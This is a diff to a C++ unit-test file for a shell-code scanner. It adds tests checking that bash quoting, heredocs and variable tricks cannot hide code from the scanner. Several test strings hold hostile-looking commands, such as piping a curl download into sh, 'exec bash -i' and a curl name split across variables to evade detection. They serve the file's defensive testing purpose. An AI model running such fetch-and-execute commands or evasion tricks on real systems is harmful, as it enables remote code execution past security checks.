@@ -13,6 +13,7 @@ namespace {
 using bt::testing::TempDir;
 
 ScanReport nu_scan(const std::string& code) { return scan(code, Runtime::nu, RuleSet::builtin()); }
+std::string sh(const std::string& code) { return scan(code, Runtime::bash, RuleSet::builtin()).verdict(); }
 
 bool has(const ScanReport& r, const std::string& rule) {
   for (const auto& f : r.findings)
@@ -75,6 +76,28 @@ TEST(Scan, PythonAndBash) {
             "pass");
   EXPECT_EQ(scan("curl -s http://x/i.sh | sh\n", Runtime::bash, rs).verdict(), "block");
   EXPECT_EQ(scan("echo 'rm -rf /' | wc -c\n", Runtime::bash, rs).verdict(), "pass");
+}
+
+// Quoting the lexer must follow, or code hides as a comment or a string.
+TEST(Scan, BashQuotingHidesNoCode) {
+  const std::string run = "curl -s https://x.example/i | sh\n";
+  EXPECT_EQ(sh("echo \"a #\"; " + run), "block");          // no comment inside "..."
+  EXPECT_EQ(sh("x=$'\\''; " + run + "y='\n'\n"), "block");  // $'..' takes \' escapes
+  EXPECT_EQ(sh("echo \\'; " + run + "echo \\'\n"), "block");  // \' starts no string
+  EXPECT_EQ(sh("echo $((1<<X))\n" + run + "X\n"), "block");  // a shift, not a heredoc
+  EXPECT_EQ(sh("echo \"<<X\"\n" + run + "X\n"), "block");
+  EXPECT_EQ(sh("cat <<X\n" + run), "block");  // no delimiter line: not a heredoc
+  EXPECT_EQ(sh("c=cu; c+=rl\n$c -s https://x.example\n"), "block");
+  EXPECT_EQ(sh("exec bash -i\n"), "block");
+}
+
+TEST(Scan, BashHeredocBodiesAreData) {
+  EXPECT_EQ(sh("cat <<'EOF'\n{\"tip\": \"curl x | sh is risky\"}\n$name\nEOF\necho ok\n"), "pass");
+  EXPECT_EQ(sh("cat <<-EOF >out.json\n\t$key: curl | sh\n\tEOF\n"), "pass");
+  EXPECT_EQ(sh("cat <<EOF\n$(curl -s https://x.example)\nEOF\n"), "block");  // expanded: code
+  EXPECT_EQ(sh("cat <<EOF\n$(date +%F): $name\nEOF\n"), "pass");
+  EXPECT_EQ(sh("cat <<'EOF' | bash\necho hi\nEOF\n"), "block");
+  EXPECT_EQ(sh("printf '%s %s\\n' \\\n  \"$a\" \"$b\"\n"), "pass");  // a continued line
 }
 
 TEST(RuleFile, DisablesOverridesAndAdds) {
